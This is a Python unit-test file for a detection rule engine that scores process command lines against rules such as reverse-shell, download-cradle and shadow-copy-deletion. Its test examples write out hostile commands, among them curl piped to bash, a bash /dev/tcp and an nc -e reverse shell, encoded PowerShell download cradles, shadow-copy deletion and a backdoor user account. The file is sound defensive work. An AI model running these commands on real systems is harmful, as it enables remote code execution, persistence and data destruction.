"""Unit tests of the rules and the rule engine (python3 -m unittest inside the image)."""
import json
import os
import tempfile
import unittest

from scoring import RuleError, load_rules, process_view, score

RULES = load_rules(os.path.join(os.path.dirname(os.path.abspath(__file__)), "rules.json"))
P = process_view

# (process, the rule ids it must match, in rules.json order)
EXAMPLES = [
    (P("certutil.exe", command_line="certutil -urlcache -split -f http://x/a.exe a.exe"),
     ["lolbin-certutil", "certutil-download-decode"]),
    (P(binary="C:\\Windows\\System32\\CERTUTIL.EXE", command_line="certutil -hashfile a"),
     ["lolbin-certutil"]),
    (P("mshta.exe", command_line="mshta vbscript:Execute(\"x\")"),
     ["lolbin-mshta", "mshta-remote-or-inline-script"]),
    (P("regsvr32.exe", command_line="regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll"),
     ["regsvr32-scriptlet"]),
    (P("rundll32.exe", command_line="rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""),
     ["rundll32-script-proxy"]),
    (P("bitsadmin.exe", command_line="bitsadmin /transfer j http://x/a.exe c:\\a.exe"),
     ["bitsadmin-transfer"]),
    (P("wmic.exe", command_line="wmic /node:10.0.0.2 process call create calc.exe"),
     ["wmic-process-create"]),
    (P("wmic.exe", command_line="wmic os get /format:\"https://x/evil.xsl\""),
     ["wmic-remote-xsl"]),
    (P("powershell.exe", "powershell.exe", "winword.exe",
       command_line="powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
     ["powershell-encoded-command", "powershell-hidden-window", "powershell-bypass",
      "office-spawns-shell"]),
    (P("pwsh.exe", command_line="pwsh -ExecutionPolicy Bypass -c \"IEX (New-Object "
       "Net.WebClient).DownloadString('http://x/a')\""),
     ["powershell-bypass", "download-cradle", "invoke-expression"]),
    (P("cmd.exe", parent="wscript.exe", command_line="cmd /c echo"),
     ["script-host-spawns-shell"]),
    (P("whoami.exe", parent="w3wp.exe", command_line="whoami"),
     ["webserver-spawns-shell", "discovery-whoami"]),
    (P("sh", parent_binary="/usr/lib/jvm/bin/java", command_line="sh -c id"),
     ["webserver-spawns-shell"]),
    (P("vssadmin.exe", command_line="vssadmin.exe Delete Shadows /All /Quiet"),
     ["shadow-copy-deletion"]),
    (P("bcdedit.exe", command_line="bcdedit /set {default} recoveryenabled No"),
     ["shadow-copy-deletion"]),
    (P("net.exe", command_line="net user backdoor P@ss /add"), ["user-added"]),
    (P("reg.exe", command_line="reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
       "/v x /d c:\\x.exe"), ["run-key-persistence"]),
    (P("schtasks.exe", command_line="schtasks /create /tn x /tr c:\\x.exe /sc onlogon"),
     ["scheduled-task-created"]),
    (P("whoami", "whoami", "bash", command_line="whoami"), ["discovery-whoami"]),
    (P("bash", command_line="bash -c \"wget http://example.com/tool; chmod 777 tool\""),
     ["download-with-wget-curl", "chmod-world-writable"]),
    (P("bash", command_line="curl -s http://x/i.sh | bash"),
     ["download-with-wget-curl", "download-piped-to-shell"]),
    (P("bash", command_line="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ["reverse-shell"]),
    (P("nc.exe", command_line="nc.exe 10.0.0.1 4444 -e cmd.exe"), ["reverse-shell"]),
]

BENIGN = [
    P("notepad.exe", parent="explorer.exe", command_line="notepad.exe c:\\notes.txt"),
    P("powershell.exe", parent="explorer.exe", command_line="powershell Get-ChildItem"),
    P("cmd.exe", parent="explorer.exe", command_line="cmd /c dir"),
    P("python3", parent="bash", command_line="python3 -m http.server"),
    P("rundll32.exe", command_line="rundll32.exe shell32.dll,Control_RunDLL"),
    P("bash", parent="sshd", command_line="chmod 755 script.sh"),
    P(),
]


class Rules(unittest.TestCase):
    def test_examples(self):
        for proc, ids in EXAMPLES:
            s, got = score(RULES, proc)
            self.assertEqual(got, ids, proc)
            weights = {r.id: r.weight for r in RULES}
            self.assertEqual(s, sum(weights[i] for i in ids))

    def test_every_rule_has_an_example(self):
        used = {i for _, ids in EXAMPLES for i in ids}
        self.assertEqual(sorted(r.id for r in RULES if r.id not in used), [])

    def test_benign(self):
        for proc in BENIGN:
            self.assertEqual(score(RULES, proc), (0, []), proc)

    def test_basename_and_case(self):
        proc = P(binary="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE",
                 parent_binary="C:\\Program Files\\Microsoft Office\\WINWORD.EXE")
        self.assertEqual(score(RULES, proc)[1], ["office-spawns-shell"])


class Loader(unittest.TestCase):
    def load(self, doc):
        with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as f:
            f.write(doc if isinstance(doc, str) else json.dumps(doc))
        try:
            return load_rules(f.name)
        finally:
            os.unlink(f.name)

    def bad(self, doc, message):
        with self.assertRaises(RuleError) as cm:
            self.load(doc)
        self.assertIn(message, str(cm.exception))

    def test_errors(self):
        ok = {"id": "a", "description": "d", "weight": 1, "process": ["x.exe"]}
        self.bad("{\"rules\": [", ":1:")
        self.bad({"rules": []}, "non-empty 'rules' list")
        self.bad({"rules": [dict(ok, id="Bad Id")]}, "rule 1: id must match")
        self.bad({"rules": [dict(ok, weight=0)]}, "rule 1 (a): weight must be a positive integer")
        self.bad({"rules": [dict(ok, weight=1.5)]}, "weight must be a positive integer")
        self.bad({"rules": [dict(ok, description="")]}, "description must be")
        self.bad({"rules": [{"id": "a", "description": "d", "weight": 1}]}, "needs at least one")
        self.bad({"rules": [dict(ok, command_line="(")]}, "rule 1 (a): command_line:")
        self.bad({"rules": [dict(ok, process="x.exe")]}, "process must be a non-empty list")
        self.bad({"rules": [ok, ok]}, "rule 2: duplicate id 'a'")
        self.bad({"rules": [dict(ok, proces=["x"])]}, "unknown key 'proces'")
        self.assertEqual([r.id for r in self.load({"rules": [ok]})], ["a"])


if __name__ == "__main__":
    unittest.main()
